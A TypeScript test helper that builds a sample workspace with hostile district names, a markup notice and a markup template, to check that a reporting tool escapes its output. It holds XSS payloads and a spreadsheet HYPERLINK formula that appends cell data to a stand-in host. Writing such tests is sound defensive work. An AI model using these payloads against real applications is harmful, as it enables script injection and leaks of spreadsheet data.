import { cpSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { repoRoot } from './cli.js';

/** Region names a district office could type, that are markup if a writer forgets to escape. */
export const HOSTILE = {
  script: '<script>alert(1)</script>',
  img: '"><img src=x onerror=alert(2)>',
  notice: '<b onmouseover=alert(3)>注意</b>',
  template: '<iframe src="javascript:alert(4)"></iframe>',
  formula: '=HYPERLINK("http://x.example/?"&A1,"点击")',
} as const;

/** A CSV field as RFC 4180 writes it. */
const field = (s: string) => (/[",\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

/**
 * A copy of the Dandong sample in a fresh temporary folder in which three districts carry hostile
 * names (in the regions file and every data file), the notice is markup, and a template of the
 * user's quotes markup in its text and a chart caption. Returns the workspace and template paths.
 */
export function hostileWorkspace(): { dir: string; template: string } {
  const dir = join(mkdtempSync(join(tmpdir(), 'kepu-hostile-')), 'ws');
  cpSync(join(repoRoot, 'data/samples/dandong'), dir, { recursive: true });
  const rename = (text: string) =>
    text
      .replace(/(^|,)元宝区(?=,|\r?$)/gm, `$1${field(HOSTILE.script)}`)
      .replace(/(^|,)振兴区(?=,|\r?$)/gm, `$1${field(HOSTILE.img)}`)
      .replace(/(^|,)振安区(?=,|\r?$)/gm, `$1${field(HOSTILE.formula)}`);
  for (const f of ['regions.csv', ...readdirSync(join(dir, 'data')).map((f) => `data/${f}`)]) {
    if (f.endsWith('.csv')) writeFileSync(join(dir, f), rename(readFileSync(join(dir, f), 'utf8')));
  }
  const config = readFileSync(join(dir, 'kepu.config.yaml'), 'utf8').replace(/zh: 本工作区.*/, `zh: '${HOSTILE.notice}'`);
  writeFileSync(join(dir, 'kepu.config.yaml'), config);
  const template = join(dir, 'templates-hostile.md');
  const bundled = readFileSync(join(repoRoot, 'templates/zh/midterm.md'), 'utf8');
  writeFileSync(template, bundled
    .replace('## 总体情况', `## 总体情况 ${HOSTILE.template}\n\n说明：${HOSTILE.template}`)
    .replace('caption="各项目标进度状态"', `caption="${HOSTILE.template.replace(/"/g, "'")}"`));
  return { dir, template };
}
